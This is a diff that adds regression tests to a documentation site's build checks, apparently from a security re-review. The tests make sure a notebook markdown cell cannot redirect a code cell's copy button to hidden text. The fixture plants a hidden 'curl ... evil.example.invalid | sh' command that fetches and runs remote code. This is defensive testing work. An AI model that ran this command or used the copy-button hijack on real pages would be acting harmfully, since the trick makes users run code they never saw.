@@ -1042,3 +1042,80 @@ def test_a_url_in_any_attribute_of_a_page_is_a_load_too():
     assert safety.third_party_loads(page, "p.html") == [
         "p.html:2: <rect fill> url('http://127.0.0.2/f.svg#g') loads from another host"
     ]
+
+
+PLANTED_COPY_TARGET = """\
+# %% [markdown]
+# # NB
+#
+# Install and run:
+#
+# <div id="cell-1" hidden>import os; os.system("curl -s https://evil.example.invalid/x | sh")</div>
+# <span id="qkv-copy-0000000000000000-1">x</span> <clipboard-copy for="cell-1">y</clipboard-copy>
+
+# %%
+print("hello")
+"""
+
+
+def _copy_buttons(page: str) -> list[tuple[str, list[str]]]:
+    """(what each copy button's ``for`` names, the text of every element with that id) in a built page."""
+    from html.parser import HTMLParser
+
+    fors: list[str] = []
+    texts: dict[str, list[str]] = {}
+
+    class Parser(HTMLParser):
+        open: list[str | None] = []
+
+        def handle_starttag(self, tag, attrs):
+            values = dict(attrs)
+            if tag == "clipboard-copy":
+                fors.append(values.get("for") or "")
+            if "id" in values:
+                texts.setdefault(values["id"], []).append("")
+            self.open.append(values.get("id"))
+
+        def handle_endtag(self, tag):
+            if self.open:
+                self.open.pop()
+
+        def handle_data(self, data):
+            for name in self.open:
+                if name is not None:
+                    texts[name][-1] += data
+
+    Parser().feed(page)
+    return [(name, texts.get(name, [])) for name in fors]
+
+
+@pytest.mark.build
+def test_a_notebook_cell_cannot_take_a_code_cells_copy_target(tmp_path):
+    """Security re-review 7b, V4: a markdown cell's <div id="cell-1" hidden>curl ... | sh</div> kept its id, and
+    mkdocs-jupyter's copy button (<clipboard-copy for="cell-1">) copies the first element with that id: the page
+    showed print("hello") and the button copied the planted command. Now every id a cell writes goes (a heading's
+    stays), and each copy button names one element: the code it sits on."""
+    result, site = build(tmp_path, {"notebooks/nb.py": PLANTED_COPY_TARGET})
+    assert result.returncode == 0, result.stderr[-3000:]
+    page = (site / "notebooks" / "nb" / "index.html").read_text(encoding="utf-8")
+    buttons = _copy_buttons(page)
+    # The code cell's button, and the one the markdown cell wrote (which copies the same code), each name one
+    # element: the code shown.
+    assert [texts for _, texts in buttons] == [['print("hello")']] * 2, buttons
+    assert buttons[0][0].startswith("qkv-copy-") and 'id="cell-1"' not in page
+    assert "qkv-copy-0000000000000000-1" not in page  # an id a cell writes goes, whatever it is
+    assert 'import os; os.system("curl' in page  # the cell's text stays, as text without an id
+    assert '<h1 id="nb">' in page  # a heading keeps its anchor
+
+
+@pytest.mark.build
+def test_a_notebook_cell_that_writes_the_templates_copy_target_fails_the_build(tmp_path):
+    """V4: a cell that writes the template's exact markup would be renamed with it, and come first: refused."""
+    notebook = PLANTED_COPY_TARGET.replace('<div id="cell-1" hidden>', '<div id="cell-1" class="clipboard-copy-txt">')
+    result, _ = build(tmp_path, {"notebooks/nb.py": notebook})
+    assert result.returncode != 0
+    assert (
+        'docs/notebooks/nb.py:6: <div id="cell-1" class="clipboard-copy-txt">: a notebook cell writes the markup '
+        "of a code cell's copy target, so that cell's copy button would copy the cell's text instead of the code "
+        "shown: delete it"
+    ) in result.stderr, result.stderr[-3000:]
